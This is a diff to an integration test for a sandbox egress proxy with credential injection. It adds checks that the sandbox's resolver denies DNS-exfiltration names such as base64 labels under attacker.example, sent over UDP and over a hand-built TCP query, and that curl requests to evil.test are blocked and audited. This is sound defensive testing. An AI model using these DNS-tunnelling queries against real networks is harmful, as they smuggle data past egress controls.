@@ -1,4 +1,5 @@
 import { randomUUID } from 'node:crypto';
+import { createServer as createHttpServer, type Server as HttpServer } from 'node:http';
 import { createServer as createHttpsServer, type Server } from 'node:https';
 import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
@@ -36,10 +37,17 @@ const leases: CredentialLeases = {
 const batches: EgressBatch[] = [];
 const audit = new EgressAuditBatcher(async (b) => void batches.push(b), { intervalMs: 200 });
 const contexts = new Map<string, EgressContext>();
-const egress = new EgressService({ instance: INSTANCE, context: async (id) => contexts.get(id), leases, audit, resolve: async () => [] });
+// every name the egress side resolves itself (the proxy, for allowed names): the sandbox's resolver forwards nothing
+const resolvedByProxy: string[] = [];
+const egress = new EgressService({ instance: INSTANCE, context: async (id) => contexts.get(id), leases, audit, resolve: async (name) => (resolvedByProxy.push(name), []) });
 const runtime = new CrunRuntime({ crun: process.env.SANDBOX_CRUN ?? 'crun', runDir: '/run/palisade-sandbox-test', instance: INSTANCE, egress });
 
 let upstream: Server;
+/** Stand-ins on 443 and 80 of a loopback address of their own: where direct (transparent) connections go. */
+const DIRECT_ADDRESS = `127.88.${process.pid % 250}.${1 + ((process.pid >> 8) % 250)}`;
+let direct443: Server;
+let direct80: HttpServer;
+const directSeen: string[] = [];
 let port = 0;
 let devCa = '';
 let hostEnd = '';
@@ -53,7 +61,7 @@ const all = (r: ExecResult) => `${r.stdout.toString()}${r.stderr.toString()}`;
 
 beforeAll(async () => {
   const ca = await loadCa(join(__dirname, '../../../.palisade/pki'));
-  const cert = await issueCertificate(ca, { kind: 'server', name: 'gerrit-stand-in', dns: ['gerrit.test', 'other.test', 'plain.test'] });
+  const cert = await issueCertificate(ca, { kind: 'server', name: 'gerrit-stand-in', dns: ['gerrit.test', 'other.test', 'plain.test', 'direct.test', 'splice.test'] });
   devCa = cert.caPem;
   // the stand-in for Gerrit: records what it receives and echoes the Authorization back (the proxy must scrub it)
   upstream = createHttpsServer({ cert: cert.certPem, key: cert.keyPem }, (req, res) => {
@@ -64,6 +72,16 @@ beforeAll(async () => {
   });
   await new Promise<void>((resolve) => upstream.listen(0, '0.0.0.0', resolve));
   port = (upstream.address() as AddressInfo).port;
+  direct443 = createHttpsServer({ cert: cert.certPem, key: cert.keyPem }, (req, res) => {
+    directSeen.push(`https ${req.headers.host} ${req.url}`);
+    res.end(`direct-https ${req.headers.host}`);
+  });
+  direct80 = createHttpServer((req, res) => {
+    directSeen.push(`http ${req.headers.host} ${req.url}`);
+    res.end(`direct-http ${req.headers.host}`);
+  });
+  await new Promise<void>((resolve) => direct443.listen(443, DIRECT_ADDRESS, resolve));
+  await new Promise<void>((resolve) => direct80.listen(80, DIRECT_ADDRESS, resolve));
   const rules: EgressRule[] = [
     {
       id: 'gerrit-changes',
@@ -77,6 +95,9 @@ beforeAll(async () => {
     },
     { id: 'plain-spliced', host: 'plain.test', ports: [port], addresses: ['127.0.0.1'] },
     { id: 'public-only', host: 'rebind.test', ports: [port], intercept: true, upstreamCaPem: devCa },
+    { id: 'direct-https', host: 'direct.test', addresses: [DIRECT_ADDRESS], intercept: true, pathPrefixes: ['/ok'], upstreamCaPem: devCa },
+    { id: 'direct-http', host: 'direct.test', scheme: 'http', addresses: [DIRECT_ADDRESS] },
+    { id: 'splice-443', host: 'splice.test', addresses: [DIRECT_ADDRESS] },
   ];
   contexts.set(A, { tenantId: 'tenant-a', sessionId: 'session-a', rules });
   contexts.set(B, { tenantId: 'tenant-a', sessionId: 'session-b', rules: [] });
@@ -91,6 +112,8 @@ afterAll(async () => {
   await runtime.remove(B).catch(() => undefined);
   await audit.close();
   await new Promise((r) => upstream?.close(r));
+  await new Promise((r) => direct443?.close(r));
+  await new Promise((r) => direct80?.close(r));
 });
 
 describe('egress proxy with credential injection (real crun)', () => {
@@ -153,7 +176,7 @@ print(tcp(sys.argv[1], 5432))
 print(tcp('1.1.1.1', 443))
 u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 try:
-    u.sendto(b'x', (sys.argv[1], 53)); print('sent')
+    u.sendto(b'x', (sys.argv[1], 54)); print('sent')
 except OSError as e:
     print('unsent', e.errno)
 print(tcp(sys.argv[1], 3128))
@@ -161,7 +184,7 @@ print(tcp(sys.argv[1], 3128))
     const r = await py(code, hostEnd, String(port));
     const lines = r.stdout.toString().trim().split('\n');
     expect(lines.slice(0, 4)).toEqual([expect.stringMatching(/^refused/), expect.stringMatching(/^refused/), expect.stringMatching(/^refused/), 'refused 101']);
-    expect(lines[4]).toMatch(/^unsent 1$/); // EPERM from the namespace's nftables
+    expect(lines[4]).toMatch(/^unsent 1$/); // EPERM from the namespace's nftables (UDP only to 53, the resolver)
     expect(lines[5]).toBe('connected'); // the proxy, and only it
     const noProxy = await sh(`curl -sS --noproxy '*' --max-time 4 --resolve gerrit.test:${port}:${hostEnd} https://gerrit.test:${port}/a/changes/ 2>&1; echo " exit=$?"`);
     expect(noProxy.stdout.toString()).not.toMatch(/exit=0$/);
@@ -216,6 +239,60 @@ print(attempt('gerrit.test:%s' % sys.argv[2], 'gerrit.test'))
     expect(others).toMatch(/exit=(7|28)$/); // sandbox A's proxy address is not reachable from B
   });
 
+  it('the sandbox’s resolver: an allowed name is the proxy’s address; another (exfiltration) is NXDOMAIN over UDP and TCP, and nothing is forwarded', async () => {
+    const code = `
+import socket, struct, sys
+print(open('/etc/resolv.conf').read().split()[1])
+print(sorted({a[4][0] for a in socket.getaddrinfo('gerrit.test', 443, socket.AF_INET)}))
+try:
+    socket.getaddrinfo('c2VjcmV0LXVkcA.attacker.example', 443); print('resolved')
+except socket.gaierror as e:
+    print('failed', e.errno)
+def tcp_query(name):
+    q = struct.pack('>HHHHHH', 7, 0x0100, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + struct.pack('>HH', 1, 1)
+    s = socket.create_connection((sys.argv[1], 53), timeout=5)
+    s.sendall(struct.pack('>H', len(q)) + q)
+    r = s.recv(4096)[2:]
+    return 'rcode=%d answers=%d' % (r[3] & 15, struct.unpack('>H', r[6:8])[0])
+print(tcp_query('c2VjcmV0LXRjcA.attacker.example'))
+print(tcp_query('gerrit.test'))
+`;
+    const r = await py(code, hostEnd);
+    expect(r.stdout.toString().trim().split('\n')).toEqual([hostEnd, `['${hostEnd}']`, 'failed -2', 'rcode=3 answers=0', 'rcode=0 answers=1']);
+    expect(resolvedByProxy.filter((n) => n.includes('attacker'))).toEqual([]);
+    await audit.flush();
+    const dns = batches.filter((b) => b.sandboxId === A).flatMap((b) => b.decisions).filter((d) => d.stage === 'dns');
+    expect(dns).toEqual(expect.arrayContaining([
+      expect.objectContaining({ outcome: 'denied', host: 'c2VjcmV0LXVkcA.attacker.example', rule: 'default-deny', port: 53 }),
+      expect.objectContaining({ outcome: 'denied', host: 'c2VjcmV0LXRjcA.attacker.example', rule: 'default-deny' }),
+    ]));
+    expect(dns.some((d) => d.host === 'gerrit.test')).toBe(false);
+  });
+
+  it('programs ignoring the proxy variables reach the proxy through the resolver, decided by SNI and Host', async () => {
+    const r = await sh([
+      `curl -sS --noproxy '*' --max-time 10 https://direct.test/ok/1`,
+      `curl -sS --noproxy '*' --max-time 10 -o /dev/null -w ' %{http_code}' https://direct.test/not-ok`,
+      `curl -sS --noproxy '*' --max-time 10 http://direct.test/plain`,
+      `curl -sS -k --noproxy '*' --max-time 10 https://splice.test/spliced`,
+      `curl -sS --noproxy '*' --max-time 5 https://gerrit.test/a/changes/ 2>/dev/null; echo " exit=$?"`,
+      `curl -sS --noproxy '*' --max-time 5 --resolve evil.test:443:${hostEnd} https://evil.test/ 2>/dev/null; echo " exit=$?"`,
+      `curl -sS --noproxy '*' --max-time 5 -H 'Host: evil.test' http://${hostEnd}/ -o /dev/null -w '%{http_code}'; echo " exit=$?"`,
+      `curl -sS --noproxy '*' --max-time 5 https://nowhere.example/ 2>/dev/null; echo " exit=$?"`,
+    ].join('; echo; '));
+    expect(r.stdout.toString().split('\n').map((l) => l.trim()).filter(Boolean)).toEqual([
+      'direct-https direct.test',
+      '403', // intercepted: a path no rule allows
+      'direct-http direct.test',
+      'direct-https splice.test',
+      'exit=35', // gerrit.test on 443: no rule for that port, the TLS connection is closed
+      'exit=35', // SNI of a name no rule allows
+      '403 exit=0', // Host of a name no rule allows
+      'exit=6', // not resolved at all
+    ]);
+    expect(directSeen).toEqual(['https direct.test /ok/1', 'http direct.test /plain', 'https splice.test /spliced']);
+  });
+
   it('every decision is audited, batched per sandbox, with rule and secret id, never the value', async () => {
     await audit.flush();
     const text = JSON.stringify(batches);
@@ -228,6 +305,9 @@ print(attempt('gerrit.test:%s' % sys.argv[2], 'gerrit.test'))
       expect.objectContaining({ outcome: 'denied', rule: 'sni-mismatch' }),
       expect.objectContaining({ outcome: 'denied', rule: 'host-mismatch' }),
       expect.objectContaining({ outcome: 'denied', rule: 'address-refused', host: 'rebind.test' }),
+      expect.objectContaining({ outcome: 'denied', stage: 'connect', host: 'evil.test', port: 443, rule: 'default-deny' }),
+      expect.objectContaining({ outcome: 'denied', stage: 'request', host: 'evil.test', port: 80, rule: 'default-deny' }),
+      expect.objectContaining({ outcome: 'denied', stage: 'dns', host: 'nowhere.example' }),
     ]));
     expect(batches.length).toBeLessThan(decisions.length); // batched, not one event per decision
   });
